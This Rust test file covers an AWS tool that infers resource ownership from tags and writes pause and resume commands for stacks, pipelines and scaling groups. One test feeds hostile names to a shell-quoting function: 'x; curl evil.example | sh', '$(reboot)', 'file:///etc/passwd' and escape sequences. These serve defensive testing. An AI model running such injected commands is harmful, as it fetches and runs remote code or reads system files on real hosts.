use std::collections::BTreeSet;

use super::notes::{Cut, Deed, DriftNotes, Note, Stands};
use super::*;
use crate::account::pipelines::{PIPELINE, REMEDIATION};
use crate::account::{Account, Caller, Cause, Gap, OfType, Properties, Region, Resources, Seen, Tags};

const HERE: &str = "eu-west-1";

fn tags(of: &[(&str, &str)]) -> Tags {
    of.iter().map(|(key, value)| ((*key).to_owned(), (*value).to_owned())).collect()
}

fn owned_by(of: &[(&str, &str)]) -> Vec<(Kind, String, bool)> {
    owners(&tags(of), Some(HERE)).into_iter().map(|owner| (owner.kind, owner.name, owner.by_aws)).collect()
}

/// A cut of a subnet with these tags.
fn cut(id: &str, of: &[(&str, &str)]) -> Cut {
    Cut {
        step: 520,
        region: Some(HERE.into()),
        kind: "subnet".into(),
        id: id.into(),
        label: None,
        was: "acl-1".into(),
        cut: "acl-2".into(),
        stands: Stands::Cut,
        new_id: None,
        owners: Some(owners(&tags(of), Some(HERE))),
    }
}

fn commands(note: &Note, deed: Deed) -> Vec<&str> {
    let all = note.before.iter().chain(&note.after).filter(|to_do| to_do.deed == deed);
    all.filter_map(|to_do| to_do.command.as_deref()).collect()
}

fn only(notes: &DriftNotes) -> &Note {
    assert_eq!(notes.notes.len(), 1, "{notes:?}");
    &notes.notes[0]
}

const STACK: (&str, &str) = ("aws:cloudformation:stack-name", "kc-net");

#[test]
fn a_tag_that_aws_alone_writes_is_sure_and_every_other_one_is_a_claim() {
    for (tag, kind, name, sure) in [
        (STACK, Kind::Stack, "kc-net", true),
        (("aws:autoscaling:groupName", "web"), Kind::ScalingGroup, "web", true),
        (("aws:eks:cluster-name", "shop"), Kind::Kubernetes, "shop", true),
        (("eks:cluster-name", "shop"), Kind::Kubernetes, "shop", false),
        (("kubernetes.io/cluster/shop", "owned"), Kind::Kubernetes, "shop", false),
        (("elbv2.k8s.aws/cluster", "shop"), Kind::Kubernetes, "shop", false),
        (("terraform", "true"), Kind::Terraform, "", false),
        (("ManagedBy", "Terraform"), Kind::Terraform, "", false),
        (("managed-by", "terraform"), Kind::Terraform, "", false),
        (("hc-config-as-code", "terraform"), Kind::Terraform, "", false),
        (("hc-repo", "https://github.com/x/y"), Kind::Terraform, "https://github.com/x/y", false),
        (("TerraformWorkspace", "prod"), Kind::Terraform, "prod", false),
        (("managed_by", "pulumi"), Kind::Pulumi, "", false),
        (("pulumi:project", "shop"), Kind::Pulumi, "shop", false),
        (("aws-cdk:bucket-deployment", "true"), Kind::Cdk, "", false),
    ] {
        assert_eq!(owned_by(&[tag]), [(kind, name.to_owned(), sure)], "{tag:?}");
    }
}

#[test]
fn tags_that_name_nobody_name_nobody() {
    assert_eq!(owned_by(&[]), []);
    for tag in [
        ("Name", "kc-net"),
        ("team", "platform"),
        ("terraform", "false"),
        ("ManagedBy", "hand"),
        ("kubernetes.io/cluster/shop", "shared"),
        ("aws:ec2launchtemplate:id", "lt-1"),
        // AWS lets nobody set it, and its letters are small.
        ("AWS:cloudformation:stack-name", "x"),
    ] {
        assert_eq!(owned_by(&[tag]), [], "{tag:?}");
    }
}

#[test]
fn a_stack_of_a_stack_set_names_its_set() {
    let name = "StackSet-baseline-4f2d1c9e-0a4b-4c3d-9e8f-112233445566";
    let of = owners(&tags(&[("aws:cloudformation:stack-name", name)]), Some(HERE));
    let owner = of.first().unwrap();
    assert_eq!((owner.kind, owner.set_name()), (Kind::StackSet, "baseline"));
    assert_eq!(owner.title(), "StackSet baseline (eu-west-1)");
    let name = "StackSet-AWSControlTowerBP-BASELINE-CONFIG-4f2d1c9e-0a4b-4c3d-9e8f-112233445566";
    assert_eq!(owned_by(&[("aws:cloudformation:stack-name", name)])[0].0, Kind::ControlTower);
    assert_eq!(owned_by(&[("aws:cloudformation:stack-name", "StackSet-é")])[0].0, Kind::StackSet);
}

#[test]
fn the_region_of_a_stack_is_that_of_its_id_also_for_what_has_no_region() {
    let id = "arn:aws:cloudformation:us-east-1:111111111111:stack/kc-net/51af3dc0";
    let of = tags(&[STACK, ("aws:cloudformation:stack-id", id), ("aws:cloudformation:logical-id", "Web")]);
    let found = owners(&of, None);
    let owner = found.first().unwrap();
    assert_eq!((owner.region.as_deref(), owner.part.as_deref()), (Some("us-east-1"), Some("Web")));
}

#[test]
fn one_tool_that_several_tags_name_is_one_owner_and_a_stack_says_more_than_cdk() {
    let both = [("ManagedBy", "terraform"), ("Terraform", "true"), ("terraform-workspace", "prod")];
    assert_eq!(owned_by(&both), [(Kind::Terraform, "prod".to_owned(), false)]);
    assert_eq!(owned_by(&[STACK, ("aws-cdk:x", "y")]).len(), 1);
    assert_eq!(owned_by(&[STACK, ("aws:autoscaling:groupName", "web")]).len(), 2);
}

#[test]
fn cuts_are_grouped_by_pipeline_and_each_says_how_it_is_known() {
    let guess = ("ManagedBy", "terraform");
    let cuts = [cut("a", &[STACK]), cut("b", &[STACK]), cut("c", &[guess]), cut("d", &[])];
    let notes = notes::of(&cuts, None, "R");
    assert_eq!((notes.notes.len(), notes.unowned), (2, 1));
    let [stack, terraform] = &notes.notes[..] else { panic!("{notes:?}") };
    assert!(stack.sure && stack.targets.len() == 2 && stack.known_by.contains("AWS alone writes"));
    assert!(!terraform.sure && terraform.known_by.contains("a thief too"), "{}", terraform.known_by);
    assert!(commands(terraform, Deed::Ignore).contains(&"terraform plan -refresh-only"));
    let hold = "aws cloudformation set-stack-policy --stack-name kc-net --stack-policy-body \
                '{\"Statement\":[{\"Effect\":\"Deny\",\"Action\":\"Update:*\",\"Principal\":\"*\",\"Resource\":\"*\"}]}' \
                --region eu-west-1";
    assert!(commands(stack, Deed::Pause).contains(&hold), "{:?}", commands(stack, Deed::Pause));
    let unseen = stack.before.iter().any(|to_do| to_do.text.contains("was not looked at"));
    assert!(unseen, "CodePipeline was not read, and that is said");
}

#[test]
fn every_kind_says_what_to_do_before_and_after() {
    for of in [
        &[STACK][..],
        &[("aws:cloudformation:stack-name", "StackSet-a-4f2d1c9e-0a4b-4c3d-9e8f-112233445566")],
        &[("aws:cloudformation:stack-name", "StackSet-AWSControlTowerBP")],
        &[("aws-cdk:x", "y")],
        &[("terraform", "yes")],
        &[("pulumi:stack", "prod")],
        &[("aws:autoscaling:groupName", "web")],
        &[("aws:eks:cluster-name", "shop")],
    ] {
        let mut cut = cut("a", of);
        cut.new_id = Some("b".into());
        let notes = notes::of(&[cut], None, "R");
        let note = only(&notes);
        assert!(note.before.iter().any(|to_do| to_do.deed == Deed::Pause), "{note:?}");
        assert!(note.after.iter().any(|to_do| to_do.deed != Deed::Import), "{note:?}");
        assert!(note.after.iter().any(|to_do| to_do.deed == Deed::Import), "{note:?}");
    }
}

#[test]
fn a_group_that_the_run_holds_is_not_to_be_suspended_again() {
    let web = ("aws:autoscaling:groupName", "web");
    let group = Cut { step: 505, kind: "scaling-group".into(), ..cut("web", &[]) };
    let held = notes::of(&[cut("a", &[web]), group], None, "R");
    assert_eq!(commands(only(&held), Deed::Pause), Vec::<&str>::new());
    let free = notes::of(&[cut("a", &[web])], None, "R");
    assert!(commands(only(&free), Deed::Pause)[0].starts_with("aws autoscaling suspend-processes"));
}

/// An account whose pipelines and remediations are these.
fn account(resources: Seen<Resources>) -> Account {
    let mut account = Account::unread("111111111111", Caller::default());
    account.regions.insert(HERE.into(), Region { pipelines: resources, ..Region::empty() });
    account
}

fn of_type(id: &str, properties: &[(&str, &str)]) -> Seen<OfType> {
    let properties: Properties =
        properties.iter().map(|(at, text)| ((*at).to_owned(), (*text).to_owned())).collect();
    Seen::Read([(id.to_owned(), Seen::Read(properties))].into())
}

fn deploying() -> Account {
    let pipeline = of_type(
        "shop",
        &[
            ("/Stages/0/Name", "Source"),
            ("/Stages/0/Actions/0/ActionTypeId/Provider", "CodeCommit"),
            ("/Stages/1/Name", "Build"),
            ("/Stages/1/Actions/0/ActionTypeId/Provider", "CodeBuild"),
            ("/Stages/2/Name", "Deploy"),
            ("/Stages/2/Actions/0/ActionTypeId/Provider", "CloudFormation"),
            ("/Stages/2/Actions/0/Configuration/StackName", "kc-net"),
        ],
    );
    let remediation = of_type("no open groups", &[("/TargetId", "AWS-CloseGroup"), ("/Automatic", "true")]);
    let types = [(PIPELINE.name.to_owned(), pipeline), (REMEDIATION.name.to_owned(), remediation)];
    account(Seen::Read(Resources { types: types.into(), ..Resources::default() }))
}

#[test]
fn the_pipeline_that_deploys_a_stack_is_held_before_the_stage_that_does() {
    let deployers = Deployers::of(&deploying()).unwrap();
    let notes = notes::of(&[cut("a", &[STACK])], Some(&deployers), "20260101-030000-0a1b2c3d");
    let [stack, remediation] = &notes.notes[..] else { panic!("{notes:?}") };
    let hold = "aws codepipeline disable-stage-transition --pipeline-name shop --stage-name Deploy \
                --transition-type Inbound --region eu-west-1 --reason 'unplug 20260101-030000-0a1b2c3d'";
    assert!(commands(stack, Deed::Pause).contains(&hold), "{:?}", commands(stack, Deed::Pause));
    let go_on = "aws codepipeline enable-stage-transition --pipeline-name shop --stage-name Deploy \
                 --transition-type Inbound --region eu-west-1";
    assert!(commands(stack, Deed::Resume).contains(&go_on));
    assert_eq!((remediation.kind, remediation.name.as_str()), (Kind::Remediation, "no open groups"));
    let manual = commands(remediation, Deed::Pause)[1];
    assert!(manual.contains("'RemediationConfigurations[].merge(@, {Automatic: `false`})'"), "{manual}");
    assert!(manual.contains("--config-rule-names 'no open groups'"), "{manual}");
}

#[test]
fn a_pipeline_that_deploys_nothing_that_was_cut_is_named_with_what_is_not_known() {
    let deployers = Deployers::of(&deploying()).unwrap();
    let notes = notes::of(&[cut("a", &[])], Some(&deployers), "R");
    let pipeline = notes.notes.iter().find(|note| note.kind == Kind::CodePipeline).unwrap();
    assert!(pipeline.targets.is_empty() && pipeline.would.contains("not known"));
    assert!(
        commands(pipeline, Deed::Pause)[0].contains("--stage-name Build"),
        "nothing gets past the source"
    );
    let elsewhere = Cut { region: Some("us-east-1".into()), ..cut("a", &[]) };
    assert_eq!(notes::of(&[elsewhere], Some(&deployers), "R").notes, [], "of another Region");
}

#[test]
fn what_could_not_be_read_is_said_and_is_never_no_pipeline() {
    let gap = Gap { cause: Cause::Denied, call: "cloudcontrol:ListResources".into(), detail: String::new() };
    let whole = Deployers::of(&account(Seen::Gap(gap.clone()))).unwrap();
    assert_eq!(whole.unread.len(), 1);
    let types = [(PIPELINE.name.to_owned(), Seen::Gap(gap))];
    let one = Deployers::of(&account(Seen::Read(Resources { types: types.into(), ..Resources::default() })));
    let one = one.unwrap();
    assert_eq!(one.unread.len(), 1);
    assert!(one.unread[0].why.contains("permission denied"), "{one:?}");
    let notes = notes::of(&[cut("a", &[STACK])], Some(&one), "R");
    assert_eq!(notes.unread, one.unread);
    assert_eq!(Deployers::of(&account(Seen::default())), None, "nobody looked");
}

#[test]
fn a_hostile_name_stays_one_word_of_a_command_or_gets_none() {
    for (name, word) in [
        ("web", Some("web")),
        ("a b", Some("'a b'")),
        ("x; curl evil.example | sh", Some("'x; curl evil.example | sh'")),
        ("$(reboot)", Some("'$(reboot)'")),
        ("it's", Some(r"'it'\''s'")),
        ("線", Some("'線'")),
        ("--endpoint-url", None),
        ("file:///etc/passwd", None),
        ("a\u{1b}[2J", None),
        ("a\nreboot", None),
        ("a\u{202e}b", None),
        ("", None),
    ] {
        assert_eq!(shell::word(name).as_deref(), word, "{name:?}");
    }
    let notes = notes::of(&[cut("a", &[("aws:autoscaling:groupName", "x\u{7}")])], None, "R");
    let pause = only(&notes).before.iter().find(|to_do| to_do.deed == Deed::Pause).unwrap();
    assert!(pause.command.is_none() && pause.text.contains("console"), "{pause:?}");
    assert_eq!(shell::file_name("../../etc/x y", "json"), "______etc_x_y.json");
}

#[test]
fn a_target_of_which_no_tags_were_looked_at_is_counted_by_its_kind() {
    let unread = Cut { owners: None, ..cut("a", &[]) };
    let notes = notes::of(&[unread, cut("b", &[])], None, "R");
    assert_eq!((notes.not_looked_at["subnet"], notes.unowned, notes.notes.len()), (1, 1, 0));
    let nobody: BTreeSet<Owner> = BTreeSet::new();
    assert_eq!(cut("b", &[]).owners, Some(nobody));
}
